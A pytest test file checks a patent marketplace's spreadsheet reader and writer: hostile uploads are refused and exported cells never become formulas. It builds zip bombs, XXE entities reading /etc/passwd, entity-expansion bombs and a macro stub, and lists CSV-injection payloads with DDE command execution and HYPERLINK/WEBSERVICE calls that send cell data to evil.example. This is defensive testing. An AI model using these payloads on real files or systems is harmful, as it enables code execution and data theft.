"""Spreadsheets come in whatever they are made with; hostile ones are refused, and no cell leaves as a formula."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
import python_calamine
import xlsxwriter
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape

from marketplace.lib import sheet_archives, sheets
from marketplace.lib.sheets import BadSheet, formula_safe, read, write_csv, write_xlsx

CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def archive(**members: bytes | str) -> bytes:
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as file:
        for name, content in members.items():
            file.writestr(name, content)
    return sink.getvalue()


def changed(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
    """The archive with each member passed through `change`; None leaves it out."""
    sink = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = change(name, old.read(name))
            if content is not None:
                new.writestr(name, content)
    return sink.getvalue()


def book(*rows: list[object]) -> bytes:
    sink = io.BytesIO()
    with xlsxwriter.Workbook(sink, {"in_memory": True}) as workbook:
        sheet = workbook.add_worksheet("表一")
        day = workbook.add_format({"num_format": "yyyy-mm-dd"})
        for number, row in enumerate(rows):
            for column, cell in enumerate(row):
                if hasattr(cell, "year"):
                    sheet.write_datetime(number, column, cell, day)
                else:
                    sheet.write(number, column, cell)
    return sink.getvalue()


# reading


def test_cells_of_any_type_become_the_text_that_people_see() -> None:
    import datetime as dt

    data = book(["专利号", 12, 3.5, True, dt.datetime(2026, 11, 24), dt.datetime(2026, 11, 24, 9, 30)])

    sheet = read(data, "a.xlsx")

    assert sheet.name == "表一"
    assert sheet.rows == [["专利号", "12", "3.5", "TRUE", "2026-11-24", "2026-11-24 09:30:00"]]


def test_rows_are_numbered_as_in_the_file_and_equally_long() -> None:
    sheet = read(book([], [""], ["", "名称"], [1, 2, 3], ["", "", ""]), "a.xlsx")

    assert sheet.rows == [["", "", ""], ["", "", ""], ["", "名称", ""], ["1", "2", "3"]]


def test_an_application_number_typed_as_a_number_keeps_its_digits() -> None:
    assert read(book([201921897980.4, 2019218980500]), "a.xlsx").rows == [["201921897980.4", "2019218980500"]]


def test_a_formula_gives_its_stored_result_and_is_not_calculated() -> None:
    sink = io.BytesIO()
    with xlsxwriter.Workbook(sink, {"in_memory": True}) as workbook:
        workbook.add_worksheet().write_formula(0, 0, "=1+1", None, "stored")

    assert read(sink.getvalue(), "a.xlsx").rows == [["stored"]]


def test_the_first_visible_sheet_with_something_in_it_is_read() -> None:
    sink = io.BytesIO()
    with xlsxwriter.Workbook(sink, {"in_memory": True}) as workbook:
        workbook.add_worksheet("empty")
        hidden = workbook.add_worksheet("hidden")
        hidden.write(0, 0, "secret")
        hidden.hide()
        workbook.add_worksheet("shown").write(0, 0, "seen")

    assert read(sink.getvalue(), "a.xlsx") == sheets.Sheet("shown", [["seen"]])


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "gbk", "utf-16"])
def test_a_text_table_is_read_in_every_usual_encoding(encoding: str) -> None:
    data = '专利号,名称\r\n"2019218980500","炉, 窑"\r\n'.encode(encoding)

    assert read(data, "a.csv").rows == [["专利号", "名称"], ["2019218980500", "炉, 窑"]]


@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_a_text_table_is_read_with_its_own_separator(mark: str) -> None:
    assert read(f"a{mark}b\n1{mark}2\n".encode(), "a.csv").rows == [["a", "b"], ["1", "2"]]


@pytest.mark.shared
@pytest.mark.parametrize(
    ("name", "rows", "somewhere"),
    [("office_export_199.xlsx", 200, "CN201220249767.4"), ("university_inventory_50.xlsx", 53, "授权公告号")],
)
def test_real_sheets_are_read(shared: Path, name: str, rows: int, somewhere: str) -> None:
    sheet = read((shared / "data" / "patents" / name).read_bytes(), name)

    assert len(sheet.rows) == rows
    assert any(somewhere in row for row in sheet.rows)


# hostile files


def bomb() -> bytes:
    return changed(book(["x"]), lambda name, old: old + b" " * 300_000_000 if name == "xl/workbook.xml" else old)


def lying_bomb() -> bytes:
    """A bomb whose directory says that it unpacks to almost nothing."""
    data = bytearray(
        changed(book(["x"]), lambda name, old: old + b" " * 50_000_000 if name == "xl/workbook.xml" else old)
    )
    size = (50_000_000).to_bytes(4, "little")[2:]
    at = 0
    while (at := data.find(size, at)) != -1 and at < len(data):
        at += 2
    central = data.rfind(b"xl/workbook.xml") - 46
    data[central + 24 : central + 28] = (100).to_bytes(4, "little")
    return bytes(data)


def with_sheet_xml(xml: str) -> bytes:
    return changed(book(["x"]), lambda name, old: xml.encode() if name == "xl/worksheets/sheet1.xml" else old)


def sparse(reference: str) -> bytes:
    return with_sheet_xml(
        f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>a</t></is></c></row>'
        f'<row r="{reference.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")}"><c r="{reference}"><v>1</v></c></row>'
        "</sheetData></worksheet>"
    )


def doctype(name_of_member: str, text: str) -> bytes:
    def change(name: str, old: bytes) -> bytes:
        return text.encode() + old.split(b"?>", 1)[-1] if name == name_of_member else old

    return changed(book(["x"]), change)


XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'

HOSTILE: dict[str, tuple[str, Callable[[], bytes]]] = {
    "empty": ("a.xlsx", lambda: b""),
    "blank": ("a.csv", lambda: b" \r\n\t \x00"),
    "zip bomb": ("a.xlsx", bomb),
    "zip bomb that lies about its size": ("a.xlsx", lying_bomb),
    "far cell": ("a.xlsx", lambda: sparse("XFD1048576")),
    "far row": ("a.xlsx", lambda: sparse("A60001")),
    "far column": ("a.xlsx", lambda: sparse("GS1")),
    "entity in the workbook": ("a.xlsx", lambda: doctype("xl/workbook.xml", XXE)),
    "entity in the sheet": ("a.xlsx", lambda: doctype("xl/worksheets/sheet1.xml", XXE)),
    "entities that laugh": ("a.xlsx", lambda: doctype("xl/sharedStrings.xml", LAUGHS)),
    "entity in UTF-16": (
        "a.xlsx",
        lambda: changed(book(["x"]), lambda n, old: XXE.encode("utf-16") if n == "xl/styles.xml" else old),
    ),
    "macros": ("a.xlsm", lambda: changed(book(["x"]), lambda n, old: old) and with_macro()),
    "xml": ("a.csv", lambda: b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    "html": ("a.csv", lambda: b"<html><script>alert(1)</script>"),
    "html named xlsx": ("a.xlsx", lambda: b"<html></html>"),
    "pdf": ("a.xlsx", lambda: b"%PDF-1.7\n%%EOF\n"),
    "pdf named csv": ("a.csv", lambda: b"%PDF-1.7\n\x00\x01\x02\n%%EOF\n"),
    "executable named csv": ("a.csv", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 64),
    "noise": ("a.csv", lambda: bytes(range(256)) * 40),
    "bytes of no encoding": ("a.csv", lambda: b"a,b\n\xff,\xff\n"),
    "plain zip": ("a.xlsx", lambda: archive(**{"readme.txt": b"hello"})),
    "zip with a workbook of nothing": (
        "a.xlsx",
        lambda: archive(**{"xl/workbook.xml": b"<x/>", "[Content_Types].xml": CONTENT_TYPES}),
    ),
    "document": ("a.docx", lambda: archive(**{"word/document.xml": b"<x/>", "[Content_Types].xml": CONTENT_TYPES})),
    "cut in the middle": ("a.xlsx", lambda: book(["x"] * 50)[:1500]),
    "head of a zip": ("a.xlsx", lambda: b"PK\x03\x04"),
    "PK and noise": ("a.xlsx", lambda: b"PK" + os.urandom(4_000)),
    "head of an old workbook": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "old workbook of noise": ("a.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(range(256)) * 64),
    "too many members": ("a.xlsx", lambda: archive(**{f"{n}.xml": b"" for n in range(600)})),
    "ods bomb": (
        "a.ods",
        lambda: archive(
            mimetype="application/vnd.oasis.opendocument.spreadsheet", **{"content.xml": b" " * 250_000_000}
        ),
    ),
    "ods of nothing": ("a.ods", lambda: archive(mimetype="application/vnd.oasis.opendocument.spreadsheet")),
    "too many rows": ("a.csv", lambda: b"a,b\n" * 60_001),
    "too many columns": ("a.csv", lambda: b",".join([b"x"] * 201)),
    "cell too long": ("a.csv", lambda: b"a," + b"x" * 32_768),
    "quotation mark never closed": ("a.csv", lambda: b'a,b\n"' + b"x" * 200_000),
    "quotation mark in the middle": ("a.csv", lambda: b'a,"b"c\n'),
    "too large": ("a.csv", lambda: b"a,b\n" * 6_000_000),
    "only empty cells": ("a.csv", lambda: b",,,\n,,,\n"),
    "empty workbook": ("a.xlsx", lambda: book()),
}


def with_macro() -> bytes:
    data = io.BytesIO(book(["x"]))
    with zipfile.ZipFile(data, "a") as file:
        file.writestr("xl/vbaProject.bin", b"Sub AutoOpen()")
    return data.getvalue()


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_with_a_reason_and_a_remedy(case: str) -> None:
    name, make = HOSTILE[case]

    with pytest.raises(BadSheet) as refused:
        read(make(), name)

    finding = refused.value.finding
    assert finding.rule == "IMP-3"
    assert str(finding.message)
    assert str(finding.remedy)


def test_a_workbook_of_the_same_shape_without_the_hostile_part_is_read() -> None:
    assert read(sparse("B2"), "a.xlsx").rows == [["a", ""], ["", "1"]]
    assert read(changed(book(["x"]), lambda _name, old: old), "a.xlsx").rows == [["x"]]


MEMBERS = (
    "[Content_Types].xml",
    "xl/workbook.xml",
    "xl/worksheets/sheet1.xml",
    "xl/sharedStrings.xml",
    "xl/_rels/workbook.xml.rels",
)
DAMAGES: dict[str, Callable[[bytes], bytes | None]] = {
    "left out": lambda _old: None,
    "emptied": lambda _old: b"",
    "cut": lambda old: old[: len(old) // 2],
    "noise": lambda old: os.urandom(len(old)),
    "another member's root": lambda _old: b"<worksheet/>",
    "no namespace": lambda old: old.replace(MAIN.encode(), b"urn:x"),
    "a thousand levels": lambda _old: b"<a>" * 1_000 + b"</a>" * 1_000,
    "numbers that overflow": lambda old: old.replace(b'"1"', b'"99999999999999999999"').replace(b'"0"', b'"-1"'),
}


@pytest.mark.parametrize("damage", DAMAGES)
@pytest.mark.parametrize("member", MEMBERS)
def test_a_workbook_with_a_damaged_part_is_read_or_refused_and_nothing_else(member: str, damage: str) -> None:
    data = changed(WHOLE, lambda name, old: DAMAGES[damage](old) if name == member else old)

    with contextlib.suppress(BadSheet):
        assert read(data, "a.xlsx").rows


@given(at=st.integers(0, 5_000), byte=st.integers(0, 255), cut=st.integers(0, 200))
def test_a_damaged_workbook_is_read_or_refused_and_nothing_else(at: int, byte: int, cut: int) -> None:
    data = bytearray(WHOLE)
    data[at % len(data)] = byte
    with_hole = bytes(data[: len(data) - cut])

    with contextlib.suppress(BadSheet):
        sheet_archives.check(with_hole)
        assert read(with_hole, "a.xlsx").rows is not None


WHOLE = book(["专利号", "名称"], ["2019218980500", "炉"])


@given(st.binary(max_size=400))
def test_any_bytes_named_csv_are_read_or_refused(data: bytes) -> None:
    with contextlib.suppress(BadSheet):
        assert read(b"a," + data, "a.csv").rows


# writing

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠"]
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    "SUM(1+1)*cmd|' /C calc'!A0",
    'IMPORTXML("http://evil.example","//a")',
    'WEBSERVICE("http://evil.example")',
]
PAYLOADS = [start + body for start in STARTS for body in BODIES] + [
    " =1+1", "　=1+1", "\u00a0=1+1", "\ufeff=1+1", "=", "@", "-5", "+86 138 0000 0000", "=1+1\";=2", "==1", "=\t1",
]  # fmt: skip


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) >= 60


def expected(payload: str) -> str:
    return payload.replace("\x00", "").replace("\r\n", "\n")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_a_workbook_is_a_formula_and_its_text_is_what_was_given(payload: str) -> None:
    data = write_xlsx("导出", ["值"], [[payload]])

    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        xml = parts.read("xl/worksheets/sheet1.xml").decode()
    rows = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()

    cell = load_workbook(io.BytesIO(data)).active["A2"]

    assert cell.data_type == "s"
    assert unescape(cell.value).replace("\r", "\n") == expected(payload).replace("\r", "\n")
    assert not any(tag in xml for tag in ("<f>", "<f ", "<hyperlink"))
    assert xml.count('t="s"') == 2
    assert isinstance(rows[1][0], str)
    assert str(rows[1][0]).replace("\r", "\n") == expected(payload).replace("\r", "\n")


def test_a_cell_stays_text_when_it_is_edited() -> None:
    with zipfile.ZipFile(io.BytesIO(write_xlsx("t", ["a"], [["=1+1"]]))) as parts:
        assert parts.read("xl/styles.xml").decode().count('quotePrefix="1"') >= 2


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_field_of_a_text_table_starts_a_formula(payload: str) -> None:
    data = write_csv(["值"], [[payload]])

    (_header, row) = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))

    dangerous = tuple("=+-@＝＋－＠")
    assert not row[0].startswith(dangerous)
    assert not row[0].lstrip("\t\r\n \u00a0\u3000\ufeff").startswith(dangerous)


@pytest.mark.parametrize("text", ["", "炉", "a=b", "1-2", "user@example.test", "'quoted", "2026-11-24"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert formula_safe(text) == text


def test_a_table_comes_back_as_it_went_out() -> None:
    rows = [["2019218980500", "炉\n窑", ""], ["x" * 32_767, "𠮷", "'"]]

    sheet = read(write_xlsx("[发布]:*?/\\项" + "长" * 40, ["甲", "乙", "丙"], rows), "a.xlsx")

    assert sheet.rows == [["甲", "乙", "丙"], *rows]
    assert len(sheet.name) <= 31


def test_what_excel_cannot_hold_is_shortened_and_not_lost_silently() -> None:
    (cell,) = read(write_xlsx("t", ["a"], [["x" * 40_000]]), "a.xlsx").rows[1]

    assert len(cell) == 32_767
    assert cell.endswith("…")


@given(st.lists(st.text(max_size=40), min_size=1, max_size=4), st.text(max_size=40))
def test_any_text_can_be_written(cells: list[str], title: str) -> None:
    data = write_xlsx(title, ["h"] * len(cells), [cells])

    rows = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert rows[0][0] == "h"
    assert write_csv(["h"], [cells]).startswith(b"\xef\xbb\xbf")
